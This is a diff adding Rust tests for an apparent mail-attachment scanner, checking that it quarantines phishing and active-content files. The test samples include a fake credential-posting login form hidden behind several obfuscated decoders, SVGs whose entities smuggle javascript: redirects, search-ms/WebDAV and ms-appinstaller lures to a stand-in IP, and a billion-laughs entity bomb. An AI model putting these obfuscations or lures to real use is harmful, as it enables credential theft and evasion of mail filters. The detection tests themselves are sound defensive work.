@@ -264,3 +264,227 @@ fn hostile_pages_never_panic() {
         let _ = scan_file(&engine, &limits, Some("image.svg"), page);
     }
 }
+
+/// The login page the red-team pages hide (issue 32): a form posting away.
+const LOGIN: &str = "<form method=\"post\" action=\"https://portail-o365.example.invalid/auth\"><input name=\"login\"><input type=\"password\" name=\"passwd\"><button>Se connecter</button></form>";
+
+fn categories_of(name: &str, page: &[u8]) -> (Action, Vec<Category>) {
+    let part = scan_file(&Engine::builtin(), &Limits::default(), Some(name), page);
+    let mut cats: Vec<Category> = part
+        .walk()
+        .iter()
+        .flat_map(|p| p.findings.iter().map(|f| f.category))
+        .collect();
+    cats.sort_by_key(|c| c.to_string());
+    cats.dedup();
+    (part.action, cats)
+}
+
+#[test]
+fn a_decoder_held_in_a_variable_is_still_a_decoder() {
+    let b64 = base64::engine::general_purpose::STANDARD.encode(LOGIN);
+    let pct: String = LOGIN.bytes().map(|b| format!("%{b:02X}")).collect();
+    let codes: Vec<String> = LOGIN.bytes().map(|b| b.to_string()).collect();
+    let codes = codes.join(",");
+    for script in [
+        format!("var d = atob; document.write(d('{b64}'));"),
+        format!("var d = window['at' + 'ob']; document.write(d('{b64}'));"),
+        format!("const {{atob: x}} = window; document.body.innerHTML = x('{b64}');"),
+        format!("const {{atob}} = self; document.write(atob('{b64}'));"),
+        format!("let w = document.write.bind(document), d = window.atob; w(d('{b64}'));"),
+        format!("var u = unescape; document.write(u('{pct}'));"),
+        format!("var u = window['decodeURI' + 'Component']; document.write(u(\"{pct}\"));"),
+        format!("var f = String.fromCharCode; document.write(f({codes}));"),
+        format!("var f = String['fromChar' + 'Code']; document.write(f.apply(null, [{codes}]));"),
+        format!("const {{fromCharCode: f}} = String; document.write(f(...[{codes}]));"),
+    ] {
+        let page = format!("<html><body><script>{script}</script></body></html>");
+        let (action, cats) = categories_of("Bordereau.html", page.as_bytes());
+        assert_eq!(cats, [Category::PhishingPage], "{script}");
+        assert_eq!(action, Action::Quarantine, "{script}");
+    }
+    // A function the reading does not know, fed a large encoded literal,
+    // whose result the page writes: held as a page that writes itself.
+    let big = base64::engine::general_purpose::STANDARD.encode(LOGIN.repeat(8));
+    let page = format!(
+        "<script>function d(s) {{ return s.split('').map(function (c) {{ return c; }}).join(''); }}\ndocument.write(decoder.run('{big}'));</script>"
+    );
+    let part = scan_file(
+        &Engine::builtin(),
+        &Limits::default(),
+        Some("Bordereau.html"),
+        page.as_bytes(),
+    );
+    assert!(
+        part.findings
+            .iter()
+            .any(|f| f.kind == FindingKind::PageWritesItself),
+        "{:?}",
+        part.findings
+    );
+    // Ordinary twins: an alias of a decoder writing a notice; an unknown
+    // function of a small text; an aliased decoder on a logo.
+    let notice =
+        base64::engine::general_purpose::STANDARD.encode("<p>Rapport généré automatiquement.</p>");
+    for script in [
+        format!("var d = atob; document.getElementById('n').innerHTML = d('{notice}');"),
+        "var t = traduire('Bonjour'); document.getElementById('n').textContent = t; el.innerHTML = format(t);".to_string(),
+        "const {atob: x} = window; var logo = x(LOGO); img.src = 'data:image/png;base64,' + LOGO;".to_string(),
+    ] {
+        let page = format!("<html><body><p id=n></p><script>{script}</script></body></html>");
+        let (action, cats) = categories_of("Rapport.html", page.as_bytes());
+        assert_eq!((action, cats), (Action::Deliver, vec![]), "{script}");
+    }
+}
+
+fn utf16(text: &str, little: bool, bom: bool) -> Vec<u8> {
+    let mut out = Vec::new();
+    if bom {
+        out.extend_from_slice(if little { &[0xff, 0xfe] } else { &[0xfe, 0xff] });
+    }
+    for u in text.encode_utf16() {
+        out.extend_from_slice(&if little {
+            u.to_le_bytes()
+        } else {
+            u.to_be_bytes()
+        });
+    }
+    out
+}
+
+#[test]
+fn a_utf16_page_is_read_as_the_browser_reads_it() {
+    let script = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><script>location = 'https://messagerie.example.invalid/';</script></svg>";
+    let foreign = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><foreignObject width=\"400\" height=\"300\"><html xmlns=\"http://www.w3.org/1999/xhtml\"><body><p>Message vocal</p></body></html></foreignObject></svg>";
+    let chart = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><title>Budget</title><rect width=\"10\" height=\"20\"/><text>Écoles</text></svg>";
+    let html = format!("<!DOCTYPE html><html><body><h2>Intranet</h2>{LOGIN}</body></html>");
+    let letter = "<!DOCTYPE html><html><body><p>Bonjour, voici l'ordre du jour.</p></body></html>";
+    for (little, bom) in [(true, true), (false, true), (true, false), (false, false)] {
+        let how = format!("little-endian {little}, byte order mark {bom}");
+        for (name, doc, want) in [
+            ("Message_vocal.svg", script, vec![Category::ActiveContent]),
+            ("Message_vocal.svg", foreign, vec![Category::ActiveContent]),
+            (
+                "Connexion.html",
+                html.as_str(),
+                vec![Category::PhishingPage],
+            ),
+            ("Budget.svg", chart, vec![]),
+            ("Ordre_du_jour.html", letter, vec![]),
+        ] {
+            if name.ends_with(".html") && !bom {
+                continue; // no XML declaration to tell the order by
+            }
+            let bytes = utf16(doc, little, bom);
+            let (action, cats) = categories_of(name, &bytes);
+            assert_eq!(cats, want, "{name}, {how}");
+            let mail = with_attachment("Message", "application/octet-stream", name, &bytes);
+            let r = scan(&Engine::builtin(), &Limits::default(), mail.as_bytes());
+            let mut got = categories(&r);
+            got.retain(|c| *c != Category::TypeMismatch);
+            assert_eq!(got, want, "{name} mailed, {how}: {:?}", r.categories);
+            if want.is_empty() {
+                assert_eq!(action, Action::Deliver, "{name}, {how}");
+            }
+        }
+    }
+}
+
+#[test]
+fn an_svgs_internal_entities_are_judged_as_what_they_become() {
+    let svg = |subset: &str, body: &str| {
+        format!(
+            "<?xml version=\"1.0\"?>\n<!DOCTYPE svg [\n{subset}\n]>\n<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"200\" height=\"100\">{body}</svg>"
+        )
+    };
+    for (subset, body, want) in [
+        (
+            "<!ENTITY x \"javascript:location='https://messagerie.example.invalid/'\">",
+            "<a href=\"&x;\"><text y=\"20\">Écouter</text></a>",
+            Category::ActiveContent,
+        ),
+        (
+            "<!ENTITY x \"java&#115;cript:void(0)\">",
+            "<a xlink:href=\"&x;\"><text y=\"20\">Écouter</text></a>",
+            Category::ActiveContent,
+        ),
+        (
+            "<!ENTITY s \"&#60;script&#62;location='https://messagerie.example.invalid/'&#60;/script&#62;\">",
+            "&s;",
+            Category::ActiveContent,
+        ),
+        (
+            "<!ENTITY h \"search-ms:query=Facture&amp;crumb=location:\\\\203.0.113.50@SSL\\DavWWWRoot\\p\">",
+            "<a href=\"&h;\"><text y=\"20\">Ouvrir</text></a>",
+            Category::ExternalContent,
+        ),
+    ] {
+        let doc = svg(subset, body);
+        let (action, cats) = categories_of("Message_vocal.svg", doc.as_bytes());
+        assert!(cats.contains(&want), "{subset}: {cats:?}");
+        assert_ne!(action, Action::Deliver, "{subset}");
+    }
+    // A billion laughs is held as a bomb, bounded.
+    let mut laughs = String::from("<!ENTITY l0 \"ha\">");
+    for i in 1..10 {
+        laughs.push_str(&format!(
+            "<!ENTITY l{i} \"{}\">",
+            format!("&l{};", i - 1).repeat(10)
+        ));
+    }
+    let started = std::time::Instant::now();
+    let (action, cats) = categories_of("rires.svg", svg(&laughs, "<text>&l9;</text>").as_bytes());
+    assert!(started.elapsed() < std::time::Duration::from_secs(5));
+    assert_eq!(cats, [Category::BudgetExceeded]);
+    assert_eq!(action, Action::Quarantine);
+    // Ordinary: Illustrator's namespaces as entities, a title as one.
+    let ai = svg(
+        "<!ENTITY ns_svg \"http://www.w3.org/2000/svg\">\n<!ENTITY ns_xlink \"http://www.w3.org/1999/xlink\">\n<!ENTITY titre \"Budget 2027\">",
+        "<title>&titre;</title><g xmlns:x=\"&ns_xlink;\"><rect width=\"10\" height=\"20\"/><a href=\"https://www.ville-exemple.fr/budget\"><text>&titre;</text></a></g>",
+    );
+    assert_eq!(
+        categories_of("Budget.svg", ai.as_bytes()),
+        (Action::Deliver, vec![])
+    );
+}
+
+#[test]
+fn relative_links_go_where_the_base_goes() {
+    let engine = Engine::builtin();
+    let limits = Limits::default();
+    for (base, link) in [
+        (
+            "search-ms:query=Facture&amp;crumb=location:\\\\203.0.113.50@SSL\\DavWWWRoot\\p",
+            "#",
+        ),
+        ("search-ms:query=Facture", "facture.pdf"),
+        ("file://203.0.113.50/partage/", "facture.pdf.lnk"),
+        ("\\\\203.0.113.50@SSL\\DavWWWRoot\\", "facture.pdf"),
+        ("ms-appinstaller:?source=https://203.0.113.50/a.msix", ""),
+    ] {
+        let page = format!(
+            "<!DOCTYPE html><html><head><base href=\"{base}\"></head><body><a href=\"{link}\">Ouvrir la facture</a></body></html>"
+        );
+        let part = scan_file(&engine, &limits, Some("Facture.html"), page.as_bytes());
+        let reach = part
+            .findings
+            .iter()
+            .find(|f| f.kind == FindingKind::ExternalContent)
+            .unwrap_or_else(|| panic!("{base} + {link}: {:?}", part.findings));
+        // The finding names where the link goes: the base.
+        assert!(reach.en().contains(&base[..8]), "{}", reach.en());
+        assert_eq!(part.action, Action::Quarantine, "{base} + {link}");
+    }
+    // Ordinary: a web base, and relative links without one.
+    for head in [
+        "<base href=\"https://www.ville-exemple.fr/\">",
+        "<base target=\"_blank\">",
+        "",
+    ] {
+        let page = format!(
+            "<!DOCTYPE html><html><head>{head}</head><body><a href=\"#haut\">Haut</a><a href=\"agenda.html\">Agenda</a><img src=\"logo.png\"></body></html>"
+        );
+        let part = scan_file(&engine, &limits, Some("Lettre.html"), page.as_bytes());
+        assert_eq!(part.action, Action::Deliver, "{head}: {:?}", part.findings);
+    }
+}
